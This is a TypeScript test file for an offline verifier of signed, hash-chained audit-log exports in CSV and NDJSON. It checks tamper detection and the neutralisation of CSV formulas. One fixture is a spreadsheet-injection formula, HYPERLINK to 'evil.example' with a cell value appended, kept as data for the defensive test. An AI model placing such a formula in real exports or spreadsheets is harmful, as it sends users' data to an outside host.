// The offline export verifier against files built here with the exporter's own writer: no
// database. Whole and filtered exports in both formats verify; a dropped, altered, reordered or
// foreign row, a wrong key and a tampered trailer are each refused and named.
import fs from "node:fs";
import os from "node:os";
import path from "node:path";
import { parse } from "csv-parse/sync";
import { exportJWK, generateKeyPair, type JWK } from "jose";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { canonicalJson, sha256Hex } from "@/lib/audit/canonical";
import { CSV_COLUMNS, signExportClaims, trailerLine, type ExportClaims, type ExportFormat } from "./export-format";
import { verifyExportFile } from "./export-verify";
import { exportWriter } from "./export-writer";
import type { SigningKey } from "./keys";
import { MerkleTree } from "./merkle";

const tmp = fs.mkdtempSync(path.join(os.tmpdir(), "export-verify-"));
afterAll(() => fs.rmSync(tmp, { recursive: true, force: true }));

const FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Click")';
const ODD = 'Ann "Q", O\'Brien\nline2 \r\\ back ✓ 😀 \u2028 end';

type Event = Record<string, unknown> & { seq: number; hash: string; type: string };

const REQUEST = "00000000-0000-4000-a000-000000000005";

/** A chain of n events as the database's export lines give them (timeline API members, compact). */
function chain(n: number): Event[] {
  const out: Event[] = [];
  let prev = "0".repeat(64);
  for (let seq = 1; seq <= n; seq++) {
    const person = seq % 3 === 0;
    const content = {
      seq,
      event_id: `00000000-0000-4000-8000-${String(seq).padStart(12, "0")}`,
      occurred_at: new Date(Date.UTC(2026, 0, 1, 0, 0, seq)).toISOString(),
      type: seq % 2 ? "review.approved" : "auth.signed_in",
      actor: person
        ? { kind: "user", id: `p${seq}@acme.test`, display: seq === 3 ? FORMULA : seq === 6 ? ODD : "\t+cmd", idp: "okta", groups: ["sec", "-ops"] }
        : { kind: "agent", id: `agent-${seq}`, display: "@bot" },
      channel: "console",
      // Three events of one request (the request filter's rows).
      request_id: [5, 7, 9].includes(seq) ? REQUEST : null,
      agent_id: null,
      action: seq % 2 ? "-deploy" : null,
      environment: seq === 4 ? "" : "prod",
      risk_level: null,
      outcome: null,
      payload: { note: seq === 6 ? ODD : `n${seq}`, n: seq / 4, nested: { list: [1, null, "\u2028"] } },
    };
    const hash = sha256Hex(prev + canonicalJson(content));
    out.push({ id: seq + 100, ...content, prev_hash: prev, hash });
    prev = hash;
  }
  return out;
}

const EVENTS = chain(23);
let key: SigningKey;
let jwks: { keys: JWK[] };
let otherJwks: { keys: JWK[] };

beforeAll(async () => {
  const make = async (kid: string) => {
    const { privateKey, publicKey } = await generateKeyPair("EdDSA", { crv: "Ed25519" });
    return { key: { kid, privateKey, publicJwk: { ...(await exportJWK(publicKey)), kid } } as SigningKey };
  };
  key = (await make("k1")).key;
  jwks = { keys: [key.publicJwk] };
  otherJwks = { keys: [(await make("k1")).key.publicJwk] }; // the same kid, another key
});

type Built = { file: string; text: string; claims: ExportClaims };

/** An export of `rows` (in the order given) as the exporter writes it, signed with `key`. */
async function build(format: ExportFormat, filter: Record<string, string>, rows: Event[], edit?: (text: string) => string): Promise<Built> {
  const tree = MerkleTree.fromEventHashes(EVENTS.map((e) => e.hash));
  const writer = exportWriter(format, tree, Object.keys(filter).length > 0);
  let text = writer.header();
  for (const e of rows) text += writer.row({ seq: e.seq, hash: e.hash, line: JSON.stringify(e) });
  const claims: ExportClaims = {
    iss: "urn:countersign",
    jti: "00000000-0000-4000-8000-0000000000ff",
    iat: 1_800_000_000,
    exported_at: "2027-01-15T08:00:00.000Z",
    exported_by: { person: "p", name: "Audrey", email: "audrey@acme.test" },
    format,
    filter,
    sort: "time desc",
    range: { from_seq: 1, to_seq: EVENTS.length },
    ...writer.claims(),
    chain_head: { seq: EVENTS.length, hash: EVENTS.at(-1)!.hash },
    ...(format === "csv" ? { columns: [...CSV_COLUMNS] } : {}),
  };
  text += trailerLine(format, claims, await signExportClaims(claims, key));
  if (edit) text = edit(text);
  const file = path.join(tmp, `${Math.random().toString(36).slice(2)}.${format}`);
  fs.writeFileSync(file, text);
  return { file, text, claims };
}

const newestFirst = (events: Event[]) => [...events].reverse();
const typeFilter = { type: "review.approved" };
const approvals = newestFirst(EVENTS.filter((e) => e.type === "review.approved"));

/** Replace the `index`-th data line (0-based, after a CSV header) of an export. */
const editLine = (format: ExportFormat, index: number, fn: (line: string) => string | null) => (text: string) => {
  const lines = text.split("\n");
  const i = index + (format === "csv" ? 1 : 0);
  const next = fn(lines[i]!);
  if (next === null) lines.splice(i, 1);
  else lines[i] = next;
  return lines.join("\n");
};

describe.each(["ndjson", "csv"] as const)("offline verification of %s exports", (format) => {
  it("a whole-log export verifies: every hash from its content, the root rebuilt from the rows, every chain link", async () => {
    const { file } = await build(format, {}, newestFirst(EVENTS));
    const v = await verifyExportFile(file, jwks);
    expect(v.failure).toBeUndefined();
    expect(v).toMatchObject({ ok: true, rows: 23, kid: "k1", format });
    expect(v.checked.join("\n")).toContain("22 chain links");
    expect(v.checked.join("\n")).toContain("root of all 23 events rebuilt");
  });

  it("a filtered export verifies on its own: each row's inclusion proof, the filter on every row", async () => {
    const { file, claims } = await build(format, typeFilter, approvals);
    expect(claims.proofs).toBe("inclusion");
    const v = await verifyExportFile(file, jwks);
    expect(v.failure).toBeUndefined();
    expect(v.ok).toBe(true);
    expect(v.rows).toBe(12);
    expect(v.checked.join("\n")).toContain("inclusion proof leads to the signed tree head (size 23)");
    expect(v.checked.join("\n")).toContain("filter type checked on every row");
  });

  it("a request filter is checked on every row; a params_hash filter is named as not checkable offline", async () => {
    const mine = newestFirst(EVENTS.filter((e) => e.request_id === REQUEST));
    expect(mine).toHaveLength(3);
    const v = await verifyExportFile((await build(format, { request: REQUEST }, mine)).file, jwks);
    expect(v.failure).toBeUndefined();
    expect(v.checked.join("\n")).toContain("filter request checked on every row");
    const foreign = [...mine.slice(0, 1), EVENTS.find((e) => e.seq === 6)!, ...mine.slice(1)];
    const w = await verifyExportFile((await build(format, { request: REQUEST }, foreign)).file, jwks);
    expect(w.failure?.reason).toContain(`does not match the stated filter (request=${REQUEST})`);
    const h = await verifyExportFile((await build(format, { request: REQUEST, params_hash: "a".repeat(64) }, mine)).file, jwks);
    expect(h.failure).toBeUndefined();
    expect(h.checked.join("\n")).toContain("params_hash not checkable offline");
  });

  it("a dropped row is named by the count and the digest", async () => {
    const { file } = await build(format, typeFilter, approvals, editLine(format, 4, () => null));
    const v = await verifyExportFile(file, jwks);
    expect(v.ok).toBe(false);
    expect(v.failure?.reason).toBe("the file has 11 rows, the signed trailer says 12: rows were dropped");
  });

  it("reordered rows are refused (the stated sort, the digest)", async () => {
    const reordered = [...approvals];
    [reordered[2], reordered[3]] = [reordered[3]!, reordered[2]!];
    const { file: signed } = await build(format, typeFilter, approvals);
    const { text: other } = await build(format, typeFilter, reordered);
    const trailer = fs.readFileSync(signed, "utf8").trimEnd().split("\n").at(-1)!;
    const forged = path.join(tmp, `forged.${format}`);
    fs.writeFileSync(forged, other.trimEnd().split("\n").slice(0, -1).join("\n") + "\n" + trailer + "\n");
    const v = await verifyExportFile(forged, jwks);
    expect(v.failure).toMatchObject({ row: 4, seq: approvals[2]!.seq });
    expect(v.failure?.reason).toMatch(/out of the stated order \(time desc\)/);
  });

  it("an altered row is named by its row number and seq", async () => {
    const edit =
      format === "ndjson"
        ? editLine(format, 3, (l) => l.replace('"note":"n', '"note":"N'))
        : editLine(format, 3, (l) => l.replace('\\"note\\":\\"n', '\\"note\\":\\"N').replace('""note"":""n', '""note"":""N'));
    const { file, text } = await build(format, typeFilter, approvals);
    fs.writeFileSync(file, edit(text));
    expect(fs.readFileSync(file, "utf8")).not.toBe(text);
    const v = await verifyExportFile(file, jwks);
    expect(v.ok).toBe(false);
    expect(v.failure).toMatchObject({ row: 4, seq: approvals[3]!.seq });
    expect(v.failure?.reason).toMatch(format === "ndjson" ? /altered/ : /payload cell disagrees|altered/);
  });

  it("a row outside the stated filter, or a proof that leads elsewhere, is refused", async () => {
    const foreign = [...approvals.slice(0, 3), EVENTS.find((e) => e.type === "auth.signed_in")!, ...approvals.slice(3)];
    const v = await verifyExportFile((await build(format, typeFilter, foreign)).file, jwks);
    expect(v.failure).toMatchObject({ row: 4, seq: 2 });
    expect(v.failure?.reason).toContain("does not match the stated filter (type=review.approved)");

    const tree = MerkleTree.fromEventHashes(EVENTS.map((e) => e.hash));
    const good = tree.auditPath(approvals[0]!.seq - 1)[0]!.toString("hex");
    const bad = good.replace(/^./, (c) => (c === "0" ? "1" : "0"));
    const { file } = await build(format, typeFilter, approvals, editLine(format, 0, (l) => l.replace(good, bad)));
    const w = await verifyExportFile(file, jwks);
    expect(w.failure).toMatchObject({ row: 1, seq: approvals[0]!.seq });
    expect(w.failure?.reason).toMatch(format === "csv" ? /inclusion proof/ : /inclusion proof does not lead to the signed tree head/);
  });

  it("a wrong key, a tampered trailer or a missing trailer is refused", async () => {
    const { file, text } = await build(format, typeFilter, approvals);
    expect((await verifyExportFile(file, otherJwks)).failure?.reason).toMatch(/signature does not verify with key k1/);
    expect((await verifyExportFile(file, { keys: [{ ...jwks.keys[0]!, kid: "k2" }] })).failure?.reason).toMatch(/key k1, which is not in the JWKS/);

    // The clear claims changed: refused even though the JWS itself is intact.
    const clearEdited = path.join(tmp, `clear.${format}`);
    fs.writeFileSync(clearEdited, text.replace(/("|"")rows("|""):12/, "$1rows$2:11"));
    expect(fs.readFileSync(clearEdited, "utf8")).not.toBe(text);
    expect((await verifyExportFile(clearEdited, jwks)).failure?.reason).toBe("the trailer's clear claims differ from the signed ones");

    // The signed payload changed: the signature fails.
    const jws = /(eyJ[\w-]+)\.([\w-]+)\.([\w-]+)/.exec(text)!;
    const claims = JSON.parse(Buffer.from(jws[2]!, "base64url").toString()) as ExportClaims;
    const forgedPayload = Buffer.from(JSON.stringify({ ...claims, rows: 11 })).toString("base64url");
    const payloadEdited = path.join(tmp, `payload.${format}`);
    fs.writeFileSync(payloadEdited, text.replace(jws[0], `${jws[1]}.${forgedPayload}.${jws[3]}`));
    expect((await verifyExportFile(payloadEdited, jwks)).failure?.reason).toMatch(/signature does not verify/);

    const cut = path.join(tmp, `cut.${format}`);
    fs.writeFileSync(cut, text.split("\n").slice(0, -2).join("\n") + "\n");
    expect((await verifyExportFile(cut, jwks)).failure?.reason).toMatch(/no trailer|cut short/);
  });
});

describe("CSV cells", () => {
  it("neutralise formulas (=, +, -, @, tab, CR) with a leading apostrophe, and the verifier checks them so", async () => {
    const { text, file } = await build("csv", {}, newestFirst(EVENTS));
    const [header, ...records] = parse(text, { relax_column_count: true }) as string[][];
    const col = (name: string) => header!.indexOf(name);
    const bySeq = (seq: number) => records.find((r) => r[0] === String(seq))!;
    expect(bySeq(3)[col("actor_display")]).toBe(`'${FORMULA}`);
    expect(bySeq(9)[col("actor_display")]).toBe("'\t+cmd");
    expect(bySeq(2)[col("actor_display")]).toBe("'@bot");
    expect(bySeq(1)[col("action")]).toBe("'-deploy");
    expect(bySeq(3)[col("actor_groups")]).toBe('["sec","-ops"]'); // arrays keep their order
    expect(bySeq(3)[col("actor_idp")]).toBe("okta");
    // The raw text stays in the hashed content (and in NDJSON).
    expect((JSON.parse(bySeq(3)[col("content")]!) as { actor: { display: string } }).actor.display).toBe(FORMULA);
    // No cell of any record begins a formula.
    for (const r of records) for (const cell of r) expect(cell, cell).not.toMatch(/^[=+\-@\t\r]/);
    expect((await verifyExportFile(file, jwks)).ok).toBe(true);

    // A formula put back into a readable cell is named.
    const raw = fs.readFileSync(file, "utf8").replace(`"'${FORMULA.replace(/"/g, '""')}"`, `"${FORMULA.replace(/"/g, '""')}"`);
    fs.writeFileSync(file, raw);
    const v = await verifyExportFile(file, jwks);
    expect(v.failure).toMatchObject({ seq: 3, reason: "the actor_display cell disagrees with the hashed content" });
  });

  it("round-trip newlines, quotes, CR, backslashes and unicode in agent text, and keep \"\" apart from NULL", async () => {
    for (const format of ["csv", "ndjson"] as const) {
      const { text, file } = await build(format, {}, newestFirst(EVENTS));
      expect((await verifyExportFile(file, jwks)).ok).toBe(true);
      if (format === "csv") {
        const records = parse(text, { relax_column_count: true, cast: (value, ctx) => (value === "" && !ctx.quoting && ctx.lines > 1 ? null : value) }) as (string | null)[][];
        const six = records.find((r) => r[0] === "6")!;
        expect(six[CSV_COLUMNS.indexOf("actor_display")]).toBe(ODD);
        expect(JSON.parse(six[CSV_COLUMNS.indexOf("payload")]!)).toEqual(EVENTS[5]!.payload);
        expect(records.find((r) => r[0] === "4")![CSV_COLUMNS.indexOf("environment")]).toBe("");
        expect(records.find((r) => r[0] === "4")![CSV_COLUMNS.indexOf("request_id")]).toBeNull();
      } else {
        const six = text.split("\n").filter(Boolean).map((l) => JSON.parse(l) as Event).find((e) => e.seq === 6)!;
        expect(six.actor).toEqual(EVENTS[5]!.actor);
        expect(six.payload).toEqual(EVENTS[5]!.payload);
      }
    }
  });
});

describe("what else is refused", () => {
  it("an NDJSON member no hash covers, bytes that are not UTF-8, a whole-log export missing a row", async () => {
    const { file: extra } = await build("ndjson", typeFilter, approvals, editLine("ndjson", 1, (l) => l.replace('{"id":', '{"approved_by_ceo":true,"id":')));
    expect((await verifyExportFile(extra, jwks)).failure).toMatchObject({ row: 2, reason: "the row has a member no hash covers: approved_by_ceo" });

    const { file: bytes } = await build("csv", typeFilter, approvals);
    const raw = fs.readFileSync(bytes);
    fs.writeFileSync(bytes, Buffer.concat([raw.subarray(0, 400), Buffer.from([0xff, 0xfe]), raw.subarray(400)]));
    expect((await verifyExportFile(bytes, jwks)).failure?.reason).toBe("the file is not valid UTF-8");

    // A whole-log export re-signed by someone holding the key but missing an event still fails the tree head.
    const { file: whole } = await build("ndjson", {}, newestFirst(EVENTS).filter((e) => e.seq !== 7));
    expect((await verifyExportFile(whole, jwks)).failure?.reason).toBe("a whole-log export of a tree of 23 must hold 23 rows, it holds 22");
  });
});
